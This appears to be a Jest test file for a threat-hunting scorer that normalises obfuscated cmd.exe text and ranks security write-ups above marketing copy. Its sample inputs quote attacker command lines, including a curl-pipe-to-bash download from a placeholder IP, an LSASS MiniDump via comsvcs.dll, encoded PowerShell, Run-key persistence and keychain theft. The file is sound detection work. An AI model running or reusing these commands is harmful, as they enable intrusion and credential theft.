import { createHuntScorer, matchHuntKeywords, scoreHunt } from './hunt-scorer';
import { cmdSubstring, normalizeForMatching } from './normalize';
import { HUNT_KEYWORD_REGISTRY, parseHuntKeywordRegistry, type HuntKeywordRegistry } from './registry';

const tiny: HuntKeywordRegistry = {
  perfect: { max: 75, terms: ['rundll32', '\\pipe\\', '%APPDATA%', '-accepteula', 'hklm\\', '.dll'] },
  good: { max: 5, terms: ['registry', 'command line'] },
  lolbas: { max: 10, terms: ['certutil', 'rundll32'] },
  intelligence: { max: 10, terms: ['ransomware', 'c2'] },
  negative: { max: 15, terms: ['webinar', 'press release'] },
};
const scorer = createHuntScorer(tiny);

describe('keyword matching', () => {
  it('matches tokens carrying symbols at either end', () => {
    const text = String.raw`The loader wrote to %AppData%\x.bin, opened \\.\PIPE\msagent_12, ran procdump -AcceptEula and set HKLM\Software\Evil via evil.DLL`;
    expect(scorer.match(text).perfect).toEqual(['\\pipe\\', '%APPDATA%', '-accepteula', 'hklm\\', '.dll']);
  });

  it('respects word boundaries on word-character edges only', () => {
    expect(scorer.match('ciexpress rundll32x xc2 registrys').perfect).toEqual([]);
    expect(scorer.match('ciexpress rundll32x xc2 registrys').intelligence).toEqual([]);
    expect(scorer.match('payload.dllx').perfect).toEqual([]);
    expect(scorer.match('(rundll32,c2)').perfect).toEqual(['rundll32']);
    expect(scorer.match('(rundll32,c2)').intelligence).toEqual(['c2']);
  });

  it('puts a term listed in two tiers in both', () => {
    const matched = scorer.match('RunDll32.exe shell32.dll,Control_RunDLL');
    expect(matched.perfect).toEqual(['rundll32', '.dll']);
    expect(matched.lolbas).toEqual(['rundll32']);
  });

  it('matches multi-word terms across line breaks and repeated spaces', () => {
    expect(scorer.match('the full command\n\n   line was logged').good).toEqual(['command line']);
  });

  it('undoes caret insertion and quote splitting', () => {
    expect(scorer.match('c^m^d /c r^u^n^d^l^l^3^2 x').perfect).toEqual(['rundll32']);
    expect(scorer.match('cmd /c "cer"t"util" -urlcache').lolbas).toEqual(['certutil']);
  });

  it('expands environment-variable substrings used to spell commands', () => {
    // %comspec% is c:\windows\system32\cmd.exe; characters 20-22 are "cmd".
    expect(normalizeForMatching('%COMSPEC:~20,3% /c whoami')).toBe('cmd /c whoami');
    expect(normalizeForMatching('%comspec:~-7,1%ertutil')).toBe('certutil');
    expect(scorer.match('%comspec:~-7,1%ertutil -f -urlcache').lolbas).toEqual(['certutil']);
    // unknown variables are left alone
    expect(normalizeForMatching('%FOO:~1,2%')).toBe('%foo:~1,2%');
  });

  it('follows cmd.exe substring semantics', () => {
    expect(cmdSubstring('abcdef', 1, 2)).toBe('bc');
    expect(cmdSubstring('abcdef', -2)).toBe('ef');
    expect(cmdSubstring('abcdef', 2, -1)).toBe('cde');
    expect(cmdSubstring('abcdef', 5, -3)).toBe('');
  });

  it('counts each distinct term once however often it occurs', () => {
    expect(scorer.match('ransomware ransomware RANSOMWARE').intelligence).toEqual(['ransomware']);
  });
});

describe('hunt score', () => {
  const expectedTier = (max: number, n: number): number => max * (1 - 0.5 ** n);

  it('adds max × (1 − 0.5^n) per tier and subtracts the negative tier', () => {
    const result = scorer.score('rundll32 loads evil.dll from the registry; ransomware c2; join our webinar');
    expect(result.tiers.perfect.matched).toEqual(['rundll32', '.dll']);
    expect(result.tiers.perfect.points).toBeCloseTo(expectedTier(75, 2), 2);
    expect(result.tiers.good.points).toBeCloseTo(expectedTier(5, 1), 2);
    expect(result.tiers.lolbas.points).toBeCloseTo(expectedTier(10, 1), 2);
    expect(result.tiers.intelligence.points).toBeCloseTo(expectedTier(10, 2), 2);
    expect(result.tiers.negative.points).toBeCloseTo(-expectedTier(15, 1), 2);
    const total = expectedTier(75, 2) + expectedTier(5, 1) + expectedTier(10, 1) + expectedTier(10, 2) - expectedTier(15, 1);
    expect(result.score).toBe(Math.round(total * 10) / 10);
  });

  it('never goes below 0', () => {
    const result = scorer.score('Press release: join our webinar');
    expect(result.tiers.negative.matched).toEqual(['webinar', 'press release']);
    expect(result.score).toBe(0);
  });

  it('never exceeds 99.9', () => {
    const big = createHuntScorer({ ...tiny, perfect: { max: 200, terms: ['rundll32'] } });
    expect(big.score('rundll32').score).toBe(99.9);
  });

  it('scores an empty text 0 with every tier empty', () => {
    const result = scoreHunt('');
    expect(result.score).toBe(0);
    expect(Object.values(result.tiers).every((tier) => tier.matched.length === 0 && tier.points === 0)).toBe(true);
  });

  it('rounds to one decimal', () => {
    const result = scorer.score('rundll32 \\pipe\\ hklm\\');
    expect(result.score).toBe(Math.round((expectedTier(75, 3) + expectedTier(10, 1)) * 10) / 10);
    expect(Number.isInteger(result.score * 10)).toBe(true);
  });
});

describe('shipped registry', () => {
  it('has every tier with the issue maxima', () => {
    expect(HUNT_KEYWORD_REGISTRY.perfect.max).toBe(75);
    expect(HUNT_KEYWORD_REGISTRY.good.max).toBe(5);
    expect(HUNT_KEYWORD_REGISTRY.lolbas.max).toBe(10);
    expect(HUNT_KEYWORD_REGISTRY.intelligence.max).toBe(10);
    expect(HUNT_KEYWORD_REGISTRY.negative.max).toBe(15);
  });

  it('matches each tier on realistic text', () => {
    const matched = matchHuntKeywords(
      String.raw`The ransomware affiliate ran "C:\Windows\System32\rundll32.exe" C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\temp\l.dmp full
and created a scheduled task; later certutil pulled the payload. Register now for our webinar.`,
    );
    expect(matched.perfect).toEqual(expect.arrayContaining(['rundll32', 'comsvcs.dll', 'minidump', '.dll']));
    expect(matched.good).toEqual(expect.arrayContaining(['c:\\', '.exe', 'scheduled task', 'payload']));
    expect(matched.lolbas).toEqual(expect.arrayContaining(['rundll32', 'certutil']));
    expect(matched.intelligence).toEqual(expect.arrayContaining(['ransomware', 'affiliate']));
    expect(matched.negative).toEqual(expect.arrayContaining(['register now', 'webinar']));
  });

  it('scores a technical write-up far above marketing copy', () => {
    const technical = scoreHunt(
      String.raw`powershell.exe -nop -w hidden -enc SQBFAFgA; reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x /d %APPDATA%\x.exe; schtasks /create /tn upd`,
    );
    const marketing = scoreHunt('Join our webinar: customer success stories, a free trial and our magic quadrant placement.');
    expect(technical.score).toBeGreaterThan(70);
    expect(marketing.score).toBe(0);
  });

  it('scores intrusions on Linux, macOS, cloud control planes and detection queries as it scores Windows ones', () => {
    const linux = scoreHunt(
      'The miner was fetched with curl -fsSL http://203.0.113.9/i.sh | bash, copied to /dev/shm/.x, pinned with chattr +i, ' +
        'listed in /etc/ld.so.preload and restarted every minute from /etc/crontab; the operator ran history -c before leaving.',
    );
    const macos = scoreHunt(
      'The fake installer ran osascript to ask for the password, removed com.apple.quarantine with xattr -d and wrote ' +
        '~/Library/LaunchAgents/com.update.plist, loaded with launchctl load; security find-generic-password read the keychain.',
    );
    const cloud = scoreHunt(
      'CloudTrail showed GetCallerIdentity from 198.51.100.4, then CreateAccessKey and AttachUserPolicy for a new user; the ' +
        'eventName and sourceIPAddress fields tie each call to the stolen key. aws sts get-caller-identity was the first command.',
    );
    const queries = scoreHunt(
      'Hunt with EQL: process where event.action == "exec" and process.name == "bash" and process.args : "-i", or in ' +
        'osquery, and for Entra ID use SigninLogs joined to AuditLogs on the UserPrincipalName.',
    );
    for (const [platform, result] of Object.entries({ linux, macos, cloud, queries }))
      expect({ platform, above: result.score > 60 }).toEqual({ platform, above: true });
  });

  it('keeps a news piece that names cloud products and platforms in passing low', () => {
    const news = scoreHunt(
      'At the conference keynote the vendor said CloudTrail, Kubernetes and Linux containers are where customers need ' +
        'visibility, and announced a partnership and a free trial of its platform for macOS fleets.',
    );
    expect(news.score).toBeLessThan(20);
  });

  it('rejects a malformed registry with a clear message', () => {
    expect(() => parseHuntKeywordRegistry({ tiers: { perfect: { max: 75, terms: [] } } })).toThrow('tier "good"');
    expect(() => parseHuntKeywordRegistry({ tiers: { ...tiny, good: { max: 5, terms: [''] } } })).toThrow('non-empty');
  });
});
